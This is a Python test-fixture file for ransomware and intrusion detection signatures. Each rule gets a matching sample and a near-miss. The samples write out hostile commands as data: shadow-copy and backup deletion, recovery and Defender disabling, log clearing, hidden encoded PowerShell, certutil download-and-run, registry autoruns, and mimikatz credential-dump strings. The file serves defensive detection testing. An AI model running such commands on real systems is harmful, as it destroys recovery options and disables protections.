"""Samples of the rules on commands, known tools and documents."""

import base64

from tests.signatures.pieces import (
    CODED,
    EMBEDDED,
    ENCRYPTING,
    GUARDS,
    OLD_OFFICE,
    ONENOTE,
    PROGRAMS,
    SERVICES,
    SHORTCUT,
    STOPS,
    WHOLE,
    program,
    script,
    vss,
)

# By rule: what it must match, then what it must not.
SAMPLES: dict[str, tuple[bytes, bytes]] = {
    "Trousse_Demo_Harmless_Program": (
        program("TROUSSE-DEMO-HARMLESS-PROGRAM"),
        b"TROUSSE-DEMO-HARMLESS-PROGRAM in a text",
    ),
    "Trousse_Program_Deletes_Shadow_Copies": (
        program("cmd.exe /c " + vss("/all /quiet"), wide=True),
        program(vss("/for=C: [/oldest | /all]"), vss("/For=<volume> /Oldest")),
    ),
    "Trousse_Program_Disables_Recovery": (
        program("bcdedit /set {default} recoveryenabled no"),
        program("recoveryenabled", "bootstatuspolicy", "ignoreallfailures"),
    ),
    "Trousse_Program_Deletes_Backups": (
        program("wbadmin delete catalog -quiet"),
        program("WBADMIN DELETE CATALOG [-quiet]", "WBADMIN DELETE SYSTEMSTATEBACKUP -keepVersions:10"),
    ),
    "Trousse_Program_Stops_Services": (program(*SERVICES), program("VeeamTransportSvc", "VeeamNFSSvc")),
    "Trousse_Program_Ends_Programs": (program(*PROGRAMS, wide=True), program("thebat", "ocssd")),
    "Trousse_Program_Clears_Logs": (
        program("wevtutil cl security", "wevtutil.exe cl System"),
        program("wevtutil cl Application /bu:C:\\backup.evtx"),
    ),
    "Trousse_Program_Disables_Defender": (
        program("powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
        program("Set-MpPreference -DisableRealtimeMonitoring $false", "Get-MpPreference"),
    ),
    "Trousse_Program_Holds_Ransom_Demand": (
        program("All your files have been encrypted!", "Pay us in bitcoin", "Do not rename files", wide=True),
        program("Your files have been encrypted with BitLocker. Keep your decryption key."),
    ),
    "Trousse_Program_Packed_Upx": (
        program()[:0x100] + b"UPX0\0\0\0\0" + bytes(32) + b"UPX1\0\0\0\0" + bytes(64),
        program(bytes(2000), b"UPX0\0\0\0\0UPX1\0\0\0\0"),
    ),
    "Trousse_Program_Packed_Protector": (program()[:0x100] + b".themida" + bytes(64), program("themida")),
    "Trousse_Program_Locker_Build_Path": (
        program(b"RSDS" + bytes(20) + b"D:\\work\\Release\\encryptor_x64.pdb"),
        program(b"RSDS" + bytes(20) + b"D:\\work\\Release\\AppLocker.pdb"),
    ),
    "Trousse_Program_Reflective_Loader": (
        program(b"\0ReflectiveLoader\0"),
        program("A ReflectiveLoader is known"),
    ),
    "Trousse_Program_Remote_Beacon": (
        program("could not create remote thread in %d: %d", "could not spawn %s (token): %d"),
        program("could not create remote thread in %d: %d"),
    ),
    "Trousse_Program_Runs_Hidden_Powershell": (
        program(
            "powershell -w hidden -enc " + base64.b64encode("$a='inert';".encode("utf-16-le") * 4).decode()
        ),
        program("powershell -File backup.ps1 -encoding utf8"),
    ),
    "Trousse_Tool_Anydesk": (program("AnyDesk Software GmbH", wide=True), program("Like AnyDesk")),
    "Trousse_Tool_Teamviewer": (
        program("TeamViewer Germany GmbH", "TeamViewer", wide=True),
        program("Close TeamViewer first", wide=True),
    ),
    "Trousse_Tool_Screenconnect": (
        program("ScreenConnect.ClientService", "ScreenConnect.WindowsClient"),
        program("ScreenConnect"),
    ),
    "Trousse_Tool_Managed_Access": (program("Splashtop Inc.", wide=True), program("MeshAgent")),
    "Trousse_Tool_Open_Remote_Desktop": (program("Purslane Ltd", wide=True), program("VNC Viewer")),
    "Trousse_Tool_Tunnel": (
        b"\x7fELF" + bytes(60) + b"github.com/jpillora/chisel/share",
        b"github.com/fatedier/frp",
    ),
    "Trousse_Tool_Psexec_Service": (
        program("PSEXESVC", "Sysinternals", wide=True),
        program("PSEXESVC", "Sysinternals", "PsExec executes a program on a remote system", wide=True),
    ),
    "Trousse_Tool_Remote_Execution": (
        program("PsExec executes a program on a remote system"),
        program("PSEXESVC", "Sysinternals"),
    ),
    "Trousse_Tool_Rclone": (
        program("github.com/rclone/rclone/fs", "github.com/rclone/rclone/cmd"),
        program("see rclone.org"),
    ),
    "Trousse_Tool_Rclone_Settings": (
        b"[vol]\ntype = mega\nuser = a@exemple.example\npass = abcdefgh1234\n",
        b"[vol]\ntype = local\nnounc = true\n",
    ),
    "Trousse_Tool_Mega": (program("Mega Limited", "MEGAsync", wide=True), program("MEGAsync")),
    "Trousse_Tool_Winscp": (program("WinSCP", "Martin Prikryl", wide=True), program("WinSCP")),
    "Trousse_Tool_Winscp_Settings": (
        script("[Configuration\\Interface]", "a=1", "[Sessions\\a@b]", "HostName=serveur.example"),
        script("[Configuration\\Interface]", "a=1"),
    ),
    "Trousse_Tool_Filezilla_Settings": (
        b'<?xml version="1.0"?>\n<FileZilla3><RecentServers><Server><Host>serveur.example</Host>',
        b'<?xml version="1.0"?>\n<FileZilla3><Settings/>',
    ),
    "Trousse_Tool_Password_Theft": (
        program("sekurlsa::logonpasswords", "lsadump::sam", wide=True),
        program("Detects mimikatz"),
    ),
    "Trousse_Tool_Saved_Passwords": (program("NirSoft", "WebBrowserPassView", wide=True), program("NirSoft")),
    "Trousse_Tool_Network_Survey": (
        program("Advanced IP Scanner", "Famatech Corp.", wide=True),
        program("Advanced IP Scanner"),
    ),
    "Trousse_Tool_Directory_Survey": (program("AdFind V01.62", "joe@joeware.net"), program("BloodHound")),
    "Trousse_Tool_Protection_Killer": (
        program("ProcessHacker", "KProcessHacker", wide=True),
        program("ProcessHacker", wide=True),
    ),
    "Trousse_Tool_Kills_Many_Protections": (program(*GUARDS), program(*GUARDS[:4], *GUARDS[-2:])),
    "Trousse_Script_Destroys_Recovery": (
        script("@echo off", "rem maj", vss("/all /quiet")),
        script(
            "Attackers often run these:",
            "",
            "```",
            vss("/all /quiet"),
            "wbadmin delete catalog -quiet",
            "```",
        ),
    ),
    "Trousse_Script_Stops_Services": (script("@echo off", *STOPS), script("@echo off", *STOPS[:3])),
    "Trousse_Script_Disables_Protection": (
        script("@echo off", "netsh advfirewall set allprofiles state off"),
        script("To test, never run netsh advfirewall set allprofiles state off on a server."),
    ),
    "Trousse_Script_Clears_Logs": (
        script("wevtutil cl Security", "wevtutil cl System"),
        script("wevtutil cl Application /bu:a.evtx"),
    ),
    "Trousse_Script_Coded_Command": (
        script("@echo off", "powershell.exe -w hidden -enc " + CODED),
        script("The option -enc of powershell takes base64: powershell -enc SQBFAFgA"),
    ),
    "Trousse_Script_Downloads_And_Runs": (
        script("certutil -urlcache -split -f http://serveur.example/a.exe a.exe"),
        script("<p>", "certutil -urlcache -f http://serveur.example/a.exe", "</p>"),
    ),
    "Trousse_Script_Host_Runs_Attack": (
        script('Set s = CreateObject("WScript.Shell")', f's.Run "cmd /c {vss("/all")}", 0'),
        script('Set s = CreateObject("WScript.Shell")', 's.Run "notepad.exe"'),
    ),
    "Trousse_Script_Host_Hidden_Start": (
        script(
            'Set s=CreateObject("WScript.Shell")',
            f's.Run "cmd /c power{"shell"} -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",0',
        ),
        script(
            'Set s=CreateObject("WScript.Shell")',
            f's.Run "power{"shell"} -w hidden -file C:\\cabinet\\sauvegarde.ps1",0',
        ),
    ),
    "Trousse_Registry_Starts_Hidden_Command": (
        script(
            "Windows Registry Editor Version 5.00",
            "",
            "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]",
            f'"x"="power{"shell"} -w hidden -enc SQBFAFgA"',
        ),
        script(
            "Windows Registry Editor Version 5.00",
            "",
            "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]",
            '"Agenda"="C:\\\\Program Files\\\\Cabinet\\\\agenda.exe -minimise"',
        ),
    ),
    "Trousse_Mail_Carries_Disguised_Program": (
        script(
            "From: a@cabinet.example",
            "Content-Disposition: attachment;",
            " filename=facture.pdf.exe",
            "",
            "TVqQ",
        ),
        script(
            "From: a@cabinet.example",
            "Content-Disposition: attachment; filename=facture.exe.pdf",
            "",
            "JVBERi0=",
        ),
    ),
    "Trousse_Script_Encrypts_Folders": (ENCRYPTING, ENCRYPTING.replace(b"-Recurse", b"")),
    "Trousse_Script_Carries_Program": (
        script(f"$b = [Convert]::FromBase64String('{WHOLE}')"),
        script("$b = [Convert]::FromBase64String('TVqQAAMAAAAEAAAA')"),
    ),
    "Trousse_Shortcut_Runs_Command": (
        SHORTCUT + "powershell.exe -w hidden iwr http://serveur.example/a".encode("utf-16-le"),
        SHORTCUT + "C:\\Program Files\\Cabinet\\agenda.exe".encode("utf-16-le"),
    ),
    "Trousse_Shortcut_Oversized": (SHORTCUT + bytes(600_000), SHORTCUT + bytes(4000)),
    "Trousse_Hta_Runs_Command": (
        b'<html><hta:application><script>new ActiveXObject("WScript.Shell").Run("cmd /c rem")</script>',
        b'<html><hta:application id="a"><script>window.resizeTo(1,1)</script><p>Pay</p>',
    ),
    "Trousse_Macro_Runs_Command": (
        OLD_OFFICE + b"\x01Attribut\x00e VB_Name\x00 Sub AutoOpen() WScript.Shell",
        OLD_OFFICE + b"\x01Attribut\x00e VB_Name\x00 Sub Total()",
    ),
    "Trousse_Rtf_Opens_Object": (
        b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}",
        b"{\\rtf1{\\object{\\*\\objdata 0105}}}",
    ),
    "Trousse_Onenote_Carries_Program": (
        ONENOTE + EMBEDDED + bytes(20) + b"@echo off\r\nrem",
        ONENOTE + bytes(20) + b"@echo off\r\nrem",
    ),
}
